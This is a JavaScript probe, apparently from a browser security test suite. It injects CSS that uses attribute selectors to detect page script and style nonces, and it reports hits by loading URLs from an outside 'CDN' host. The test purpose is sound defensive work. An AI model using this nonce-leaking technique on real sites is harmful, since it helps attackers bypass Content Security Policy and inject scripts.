// Tries: learn the nonce of the page's scripts with a style sheet.
(() => {
  const sheet = `html, head, head > script[nonce], head > style[nonce] { display: block; width: 9px; height: 9px }
script[nonce^="nonce"] { background: url("${CDN}/reached/nonce-by-style/starts") }
style[nonce]:not([nonce=""]) { background-image: url("${CDN}/reached/nonce-by-style/is-there") }`;
  for (const view of [window, top]) {
    attempt(() => {
      const style = view.document.createElement("style");
      style.textContent = sheet;
      view.document.head.append(style);
    });
  }
  setTimeout(() => over("nonce-by-style"), 200);
})();
